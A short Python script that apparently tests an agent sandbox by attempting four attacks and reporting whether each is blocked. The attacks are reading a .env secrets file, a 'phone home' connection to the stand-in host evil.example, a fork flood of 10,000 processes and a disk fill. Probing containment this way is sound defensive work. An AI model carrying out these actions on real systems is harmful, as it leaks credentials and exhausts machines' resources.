import socket, subprocess

def attempt(name, attack):
    try: print(f"{name:<12} got {attack()}")
    except OSError as error: print(f"{name:<12} stopped: {error.strerror}")

attempt("read secret", lambda: open("/tmp/agent/.env").read())
attempt("phone home", lambda: socket.create_connection(("evil.example", 443)))
attempt("fork flood", lambda: [subprocess.Popen(["sleep", "60"]) for _ in range(10_000)])
attempt("fill disk", lambda: [open(str(n), "wb").write(bytes(1 << 26)) for n in range(99)])
